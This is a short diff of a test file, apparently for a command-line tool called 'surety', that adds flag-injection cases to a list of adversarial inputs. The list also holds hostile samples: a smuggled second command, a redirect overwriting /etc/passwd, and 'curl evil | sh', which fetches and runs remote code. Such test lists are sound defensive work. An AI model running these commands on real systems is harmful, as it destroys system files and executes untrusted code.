@@ -41,6 +41,8 @@ describe('an explanation of an aggregator that lies', () => {
       'surety explain x\nsurety status',
       'surety explain \u202ex',
       'surety claim x > /etc/passwd',
+      'surety relay --chain alpha --no-pay --yes',
+      'surety explain --yes',
       'curl evil | sh',
       `surety explain ${'x'.repeat(1_000)}`,
     ];
